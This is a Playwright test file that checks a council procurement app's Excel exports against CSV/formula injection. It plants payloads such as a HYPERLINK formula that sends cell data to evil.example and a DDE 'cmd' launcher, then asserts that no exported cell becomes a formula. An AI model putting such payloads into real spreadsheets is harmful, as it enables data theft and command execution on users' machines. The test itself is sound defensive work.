// Text that a spreadsheet would run (= + - @) is planted in several kinds of record; then every
// Excel export the officer can download from the lists and the council profile is opened and
// searched: the text comes back exactly, as text, and no cell anywhere is a formula.
// (exports.spec.ts checks the register's CSV, where such text gets a leading apostrophe.)

import type { Page } from '@playwright/test';
import ExcelJS from 'exceljs';
import { api, open } from './app-helpers';
import { expect, test } from './fixtures';

const planted = {
  supplier: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  contract: '+cmd|" /C calc"!A0',
  reference: '@SUM(1+1)',
  exercise: '-2+3',
};

/** Downloads what the button on the page at `path` exports, and opens it. */
async function downloadWorkbook(page: Page, path: string, button: string) {
  await page.goto(`${page.url().split('#')[0]}#${path}`);
  await expect(page.getByRole('button', { name: button })).toBeVisible();
  const download = page.waitForEvent('download');
  await page.getByRole('button', { name: button }).click();
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.readFile(await (await download).path());
  return workbook;
}

/** Every cell's text, failing on any cell that holds a formula. */
function textsWithoutFormulas(workbook: ExcelJS.Workbook, what: string): Set<string> {
  const texts = new Set<string>();
  for (const sheet of workbook.worksheets) {
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.type, `${what}: ${sheet.name}!${cell.address}`).not.toBe(
          ExcelJS.ValueType.Formula,
        );
        expect(cell.formula, `${what}: ${sheet.name}!${cell.address}`).toBeFalsy();
        texts.add(cell.text);
      }),
    );
  }
  return texts;
}

test('no Excel export holds a live formula, and planted formula text comes back as text', async ({
  page,
  app,
}) => {
  test.slow();
  const supplier = await api(app.host, 'suppliers.create', { name: planted.supplier });
  await api(app.host, 'contracts.create', {
    reference: planted.reference,
    title: planted.contract,
    supplierId: supplier.id,
    category: 'services',
    valuePence: 2_500_000,
    startDate: '2026-04-01',
    endDate: '2027-03-31',
  });
  await api(app.host, 'exercises.create', {
    reference: 'PX-EVIL',
    title: planted.exercise,
    category: 'services',
    estimatedValuePence: 6_000_000,
    startDate: '2026-04-01',
  });
  await open(page, app.host, '/');

  const exports = [
    { path: '/suppliers', button: 'Export to Excel', expected: [planted.supplier] },
    {
      path: '/contracts',
      button: 'Export to Excel',
      expected: [planted.reference, planted.contract, planted.supplier],
    },
    { path: '/exercises', button: 'Export to Excel', expected: [planted.exercise] },
    {
      path: '/profile',
      button: 'Export whole workspace',
      expected: Object.values(planted),
    },
  ];
  for (const { path, button, expected } of exports) {
    const texts = textsWithoutFormulas(await downloadWorkbook(page, path, button), path);
    for (const text of expected) expect(texts.has(text), `${path}: ${text}`).toBe(true);
  }
});
